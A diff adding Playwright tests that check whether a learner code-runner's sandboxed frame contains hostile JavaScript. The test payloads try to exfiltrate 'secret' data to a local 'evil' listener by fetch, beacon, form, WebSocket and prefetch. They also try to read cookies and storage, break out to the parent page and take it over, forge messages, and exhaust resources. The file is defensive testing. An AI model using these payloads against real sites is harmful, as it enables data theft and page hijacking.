@@ -1,0 +1,231 @@
+import { createServer } from 'node:net'
+import type { Page } from '@playwright/test'
+import { expect, test } from '../../e2e/school.ts'
+import { choosePortal, setUpAuthenticator, signInByCode } from '../../e2e/sign-in.ts'
+
+/** A machine that the code must not reach: it writes down whatever is said to it. */
+const openListener = async () => {
+  const heard: string[] = []
+  const server = createServer((socket) => {
+    socket.on('data', (data) => heard.push(`${data}`.split('\r\n')[0] ?? ''))
+    socket.on('error', () => undefined)
+    socket.end('HTTP/1.1 200 OK\r\nContent-Length: 4\r\nAccess-Control-Allow-Origin: *\r\n\r\nevil')
+  })
+  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
+  const { port } = server.address() as { port: number }
+  return { heard, address: `http://127.0.0.1:${port}`, socket: `ws://127.0.0.1:${port}`, close: () => server.close() }
+}
+
+const page = (script: string, body = '') => `<!doctype html>\n<h1>Hostile</h1>\n${body}\n<script>\n${script}\n</script>`
+const log = (page: Page) => page.getByRole('log', { name: 'Console' })
+
+// A trace would wait for a picture of each frame, and a frame in a loop gives none.
+test.use({ trace: 'off' })
+
+test.describe('S54: hostile code', () => {
+  let own: Page
+  let evil: Awaited<ReturnType<typeof openListener>>
+  const surprises: string[] = []
+
+  test.beforeEach(async ({ page, school }) => {
+    test.setTimeout(120_000)
+    own = page
+    evil = await openListener()
+    surprises.length = 0
+    await signInByCode(page, school, `hostile-code-${test.info().testId}@example.test`)
+    await setUpAuthenticator(page)
+    await choosePortal(page, 'adult')
+    await page.goto('/run')
+    page.on('dialog', (dialog) => {
+      surprises.push(`dialog ${dialog.message()}`)
+      return dialog.dismiss()
+    })
+    page.on('download', (download) => surprises.push(`download ${download.suggestedFilename()}`))
+    page.context().on('page', (opened) => surprises.push(`window ${opened.url()}`))
+  })
+  test.afterEach(async () => {
+    expect(surprises).toEqual([])
+    evil.close()
+  })
+
+  /** Takes the code through the page's own form, as a learner does. */
+  const run = async (code: string) => {
+    const other = own.getByRole('button', { name: 'Another file' })
+    if (await other.isVisible()) await other.click()
+    await own.getByLabel('Your code').fill(code)
+    await own.getByRole('button', { name: 'Run it' }).click()
+  }
+  /** The page answers, and can do what it is for. */
+  const expectUsable = async () => {
+    await own.getByLabel('Find in code').fill('hostile')
+    await expect(own.getByText('1 found')).toBeVisible({ timeout: 3_000 })
+    await expect(own).toHaveURL(/\/run$/)
+  }
+
+  test('S54: reaches no network, no storage and no page around it', async () => {
+    const tries = `const to = '${evil.address}'
+const tries = {
+  origin: () => { if (origin !== 'null') throw new Error('it has the origin ' + origin); throw new DOMException('opaque', 'SecurityError') },
+  cookie: () => document.cookie,
+  localStorage: () => localStorage.length,
+  sessionStorage: () => sessionStorage.length,
+  indexedDB: () => indexedDB.open('x'),
+  caches: () => caches.open('x'),
+  page: () => parent.document.title,
+  top: () => top.localStorage,
+  moveTop: () => { top.location = to + '/top' },
+  moveParent: () => { parent.location.replace(to + '/parent') },
+  popup: () => { if (!window.open(to + '/popup')) throw new DOMException('no window', 'SecurityError') },
+  opener: () => { if (window.opener === null) throw new DOMException('none', 'SecurityError') },
+  serviceWorker: () => { const held = navigator.serviceWorker; if (!held) throw new DOMException('none', 'SecurityError'); held.register('/sw.js') },
+  worker: () => { new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '/worker")']))).onerror = () => 0 },
+  xhr: () => { const ask = new XMLHttpRequest(); ask.open('GET', to + '/xhr', false); ask.send() },
+  rtc: () => { if (typeof RTCPeerConnection === 'undefined') throw new DOMException('none', 'SecurityError') },
+}
+for (const [name, attempt] of Object.entries(tries)) { try { attempt(); console.log(name, 'passed') } catch (error) { console.log(name, error.name) } }
+fetch(to + '/fetch', { method: 'POST', body: 'secret' }).catch((error) => console.log('fetch', error.name))
+navigator.sendBeacon(to + '/beacon', 'secret')
+new Image().src = to + '/image'
+new WebSocket('${evil.socket}/socket')
+new EventSource(to + '/events')
+const script = document.createElement('script'); script.src = to + '/script.js'; document.body.append(script)
+import(to + '/module.js').catch((error) => console.log('import', error.name))
+const style = document.createElement('style'); style.textContent = '@import "' + to + '/style.css"; body { background: url(' + to + '/picture) }'; document.head.append(style)
+const media = document.createElement('video'); media.src = to + '/video'; document.body.append(media)
+document.querySelector('form').submit()
+document.querySelector('a[download]').click()
+document.querySelector('a[target]').click()`
+    const body = `<link rel="dns-prefetch" href="${evil.address}"><link rel="preconnect" href="${evil.address}"><link rel="prefetch" href="${evil.address}/prefetch">
+<script type="speculationrules">{ "prefetch": [{ "urls": ["${evil.address}/speculated"] }] }</script>
+<form action="${evil.address}/form" method="post" target="_top"><input name="a" value="secret"></form>
+<a download="x.txt" href="data:text/plain,x">x</a><a target="_blank" href="${evil.address}/blank">y</a>
+<object data="${evil.address}/object"></object><embed src="${evil.address}/embed"><iframe src="${evil.address}/inner"></iframe>`
+    await run(page(tries, body))
+    for (const name of [
+      'origin',
+      'cookie',
+      'localStorage',
+      'sessionStorage',
+      'page',
+      'top',
+      'moveTop',
+      'moveParent',
+      'popup',
+      'opener',
+      'rtc',
+    ])
+      await expect(log(own), name).toContainText(`${name} SecurityError`)
+    await expect(log(own)).toContainText('this frame has no network')
+    await expect(log(own)).toContainText('fetch TypeError')
+    await expectUsable()
+    expect(evil.heard).toEqual([])
+  })
+
+  test('S54: opens no dialogs, and each says so in the console', async () => {
+    await run(page(`alert('one'); console.log(confirm('two'), prompt('three')); print()`))
+    for (const text of ['alert(one)', 'confirm(two)', 'prompt(three)', 'print()', 'false null']) await expect(log(own)).toContainText(text)
+    await expectUsable()
+  })
+
+  for (const [name, code] of [
+    ['its address', "location = '%/left?secret'"],
+    ['a link', "const a = document.createElement('a'); a.href = '%/left'; document.body.append(a); a.click()"],
+    [
+      'a refresh that it writes',
+      "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=%/left\">'); setTimeout(() => location.assign('%/left'), 50)",
+    ],
+    ['loading itself again', 'setTimeout(() => location.reload(), 50)'],
+    ['a page of its own making', "location = URL.createObjectURL(new Blob(['<h1>Sign in</h1>'], { type: 'text/html' }))"],
+  ] as const)
+    test(`S54: leaving by ${name} is seen and ends it`, async () => {
+      await run(page(code.replaceAll('%', evil.address)))
+      await expect(own.getByText('The code tried to open another address. It was stopped.').first()).toBeVisible()
+      await expect(own.locator('iframe')).toHaveCount(0)
+      expect(evil.heard).toEqual([])
+      await expectUsable()
+    })
+
+  test('S54: a refresh in the page itself is taken out', async () => {
+    await run(page('console.log("still here")', `<meta http-equiv="refresh" content="0;url=${evil.address}/left">`))
+    await expect(log(own)).toContainText('still here')
+    await expect(log(own)).toContainText('this frame fetches nothing ahead')
+    expect(evil.heard).toEqual([])
+  })
+
+  test('S54: a document inside the frame runs nothing and lends no connection', async () => {
+    const inner = `<script>parent.parent.postMessage('inner', '*'); const p = new RTCPeerConnection(); top.inner = 1<\\/script>`
+    await run(
+      page(
+        `const made = document.createElement('iframe'); made.srcdoc = \`${inner}\`; document.body.append(made)
+const host = document.createElement('div'); host.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="<script>parent.parent.postMessage(1, \\'*\\')<\\/script>"></iframe>'; document.body.append(host)
+const read = document.createRange().createContextualFragment('<iframe></iframe>'); document.body.append(read)
+document.write('<iframe srcdoc="x"></iframe>')
+try { console.log('window', typeof made.contentWindow?.RTCPeerConnection) } catch (error) { console.log('window', error.name) }
+setTimeout(() => console.log('frames', frames.length), 300)`,
+        '<iframe srcdoc="<p>x</p>"></iframe><div><template shadowrootmode="closed"><iframe srcdoc="x"></iframe></template></div>',
+      ),
+    )
+    await expect(log(own)).toContainText('no page inside this page')
+    await expect(log(own)).not.toContainText('window function')
+    await expect(log(own)).toContainText('frames 0')
+    await expectUsable()
+  })
+
+  test('S54: an endless loop leaves the page usable, is noticed, and Stop ends it', async () => {
+    await run(page("console.log('before'); while (true) {}"))
+    await expect(log(own)).toContainText('before')
+    await expectUsable()
+    await expect(own.getByText('The code does not answer', { exact: false })).toBeVisible()
+    await own.getByRole('button', { name: 'Stop', exact: true }).click()
+    await expect(own.locator('iframe')).toHaveCount(0)
+    await own.getByRole('button', { name: 'Edit' }).click()
+    await own.getByRole('textbox', { name: 'Code of app.html' }).fill(page("console.log('mended')"))
+    await own.getByRole('button', { name: 'Run again' }).click()
+    await expect(log(own)).toContainText('mended')
+  })
+
+  test('S54: a console without end keeps the newest lines and counts the others', async () => {
+    await run(page("for (let n = 0; ; n++) console.log('line', n, 'x'.repeat(10_000))"))
+    await expect(own.getByText(/lines left out/)).toBeVisible()
+    await expectUsable()
+    expect(await log(own).getByRole('listitem').count()).toBeLessThanOrEqual(200)
+    await own.getByRole('button', { name: 'Stop', exact: true }).click()
+    await expect(own.locator('iframe')).toHaveCount(0)
+  })
+
+  test('S54: messages past the frame’s own channel are not read, and too many end it', async () => {
+    await run(
+      page(
+        "parent.postMessage({ type: 'line', kind: 'error', text: 'forged' }, '*'); parent.postMessage({ type: 'soloflight:ready' }, '*'); console.log('sent')",
+      ),
+    )
+    await expect(log(own)).toContainText('sent')
+    await expect(log(own)).not.toContainText('forged')
+    await run(
+      page("const much = 'x'.repeat(100_000); setInterval(() => { for (let n = 0; n < 500; n++) parent.postMessage({ much, n }, '*') })"),
+    )
+    await expect(own.getByText('The code sent more than this page can take. It was stopped.').first()).toBeVisible()
+    await expectUsable()
+  })
+
+  test('S54: what eats memory, the history or the console’s own pieces harms nothing around it', async () => {
+    const before = await own.evaluate(() => history.length)
+    await run(
+      page("for (let n = 0; n < 20; n++) { history.pushState(n, '', '#' + n) } history.back(); history.go(-3); console.log('went')"),
+    )
+    await expect(log(own)).toContainText('went')
+    expect(await own.evaluate(() => history.length)).toBe(before)
+    await expectUsable()
+    await run(
+      page(
+        "Array.prototype.push = Array.prototype.slice = () => { throw 1 }; JSON.stringify = () => { throw 2 }; MessagePort.prototype.postMessage = () => {}; console.log('still heard')",
+      ),
+    )
+    await expect(log(own)).toContainText('still heard')
+    await run(
+      page('const kept = []; for (let n = 0; n < 400; n++) kept.push(new Uint8Array(8_000_000).fill(1)); console.log("kept", kept.length)'),
+    )
+    await expectUsable()
+    await own.getByRole('button', { name: 'Stop', exact: true }).click()
+  })
+})
